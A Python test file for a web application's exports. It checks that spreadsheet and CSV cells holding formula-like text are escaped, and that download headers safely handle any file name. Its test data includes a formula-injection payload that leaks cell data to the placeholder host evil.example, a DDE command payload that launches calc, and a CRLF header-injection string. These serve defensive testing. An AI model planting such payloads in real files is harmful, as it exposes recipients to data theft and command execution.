"""Exports are safe to open (formula-like text escaped) and downloads keep any file name."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from urllib.parse import unquote

import pandas as pd
import pytest
from openpyxl import load_workbook

from mmsis.present.cells import safe_cell, safe_frame

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -5.5, 0, 3.2, "-5", "+1.5e3", "plain text", None, "a=b"])
def test_numbers_and_ordinary_text_are_untouched(value: object) -> None:
    assert safe_cell(value) == value


def test_safe_frame_keeps_numeric_columns_numeric() -> None:
    df = pd.DataFrame({"note": ["=1+1", "ok"], "value": [-3.0, 2.0], "n": [-1, 2]})
    out = safe_frame(df)
    assert out["note"].tolist() == ["'=1+1", "ok"]
    assert out["value"].tolist() == [-3.0, 2.0] and out["n"].dtype == df["n"].dtype
    assert df["note"].tolist() == ["=1+1", "ok"]  # the input is not changed


def test_report_xlsx_escapes_a_formula_in_a_cell(tmp_path: Path) -> None:
    from mmsis.report.documents import write_xlsx

    df = pd.DataFrame({"note": [PAYLOADS[0], "fine"], "value": [-0.5, 1.0]})
    path = write_xlsx(tmp_path / "a.xlsx", {"Sheet": df})
    ws = load_workbook(path)["Sheet"]
    note, value = ws["A2"], ws["B2"]
    assert note.data_type == "s" and note.value == "'" + PAYLOADS[0]
    assert value.data_type == "n" and value.value == -0.5
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_xlsform_escapes_org_unit_names(tmp_path: Path) -> None:
    from mmsis.plan.forms import OrgUnitChoices, build_forms

    choices = OrgUnitChoices(
        districts=[("D1", '=HYPERLINK("http://evil.example","x")')],
        facilities=[("F1", "@cmd", "D1")],
    )
    build_forms(tmp_path, org_units=choices)
    assert list(tmp_path.glob("*.xlsx"))
    for path in tmp_path.glob("*.xlsx"):
        wb = load_workbook(path)
        for ws in wb.worksheets:
            assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    labels = [
        c.value
        for path in tmp_path.glob("*.xlsx")
        for c in load_workbook(path)["choices"]["C"]
    ]
    assert "'" + '=HYPERLINK("http://evil.example","x")' in labels


def test_workspace_report_xlsx_has_no_live_formula_from_a_note(world) -> None:  # type: ignore[no-untyped-def]
    from mmsis.framework import load_framework

    kr = load_framework().key_results[0].id
    c = world.client("editor")
    wid = world.workspace_id
    r = c.put(
        f"/api/workspaces/{wid}/key-results/{kr}", json={"status": "met", "note": PAYLOADS[0]}
    )
    assert r.status_code == 200, r.text
    rep = c.get(f"/api/workspaces/{wid}/report")
    assert rep.status_code == 200, rep.text[:300]
    assert rep.headers["content-disposition"].startswith("attachment; filename=")
    z = zipfile.ZipFile(io.BytesIO(rep.content))
    wb = load_workbook(io.BytesIO(z.read("agenda.xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + PAYLOADS[0] in {c.value for c in cells}


@pytest.mark.parametrize("name", ["报告.pdf", "ሪፖርት.txt", "Réunion été 2025.pdf"])
def test_evidence_with_any_file_name_downloads(world, name: str) -> None:  # type: ignore[no-untyped-def]
    from mmsis.framework import load_framework

    kr = load_framework().key_results[0].id
    c = world.client("editor")
    url = f"/api/workspaces/{world.workspace_id}/key-results/{kr}/evidence"
    body = b"%PDF-1.4 test" if name.endswith(".pdf") else b"minutes"
    up = c.post(url, files={"file": (name, body, "application/octet-stream")})
    assert up.status_code == 201, up.text
    got = world.client("viewer").get(
        f"/api/workspaces/{world.workspace_id}/evidence/{up.json()['id']}"
    )
    assert got.status_code == 200 and got.content == body
    disp = got.headers["content-disposition"]
    assert disp.startswith('attachment; filename="')
    fallback = disp.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.isascii() and fallback.endswith(Path(name).suffix)
    encoded = disp.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == name


def test_content_disposition_never_carries_a_line_break() -> None:
    from mmsis.web.downloads import content_disposition

    value = content_disposition("a\r\nSet-Cookie: x=1.pdf")
    assert "\r" not in value and "\n" not in value
    value.encode("latin-1")


def test_forecast_tables_escape_a_district_named_like_a_formula(tmp_path: Path) -> None:
    import csv

    from mmsis.datasets import example_country
    from mmsis.demos.examples import example_scenario
    from mmsis.forecast.cli import write_forecast
    from mmsis.forecast.engine import run_forecast
    from mmsis.forecast.scenario import scenario_from_dict

    result = run_forecast(scenario_from_dict(example_scenario(example_country())))
    result.months = result.months.assign(district=PAYLOADS[0], delta=-1.5)
    write_forecast(result, tmp_path)
    text = (tmp_path / "forecast_months.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.splitlines()))
    assert rows and {r["district"] for r in rows} == {"'" + PAYLOADS[0]}
    assert {r["delta"] for r in rows} == {"-1.5"}  # numbers stay numbers


def test_every_download_header_comes_from_the_one_helper() -> None:
    """No route writes Content-Disposition (or FileResponse's filename=) itself."""
    import mmsis.web

    root = Path(mmsis.web.__file__).parent
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name not in ("downloads.py", "limits.py")
        and ("Content-Disposition" in p.read_text(encoding="utf-8")
             or re.search(r"FileResponse\([^)]*filename=", p.read_text(encoding="utf-8")))
    ]
    assert offenders == []
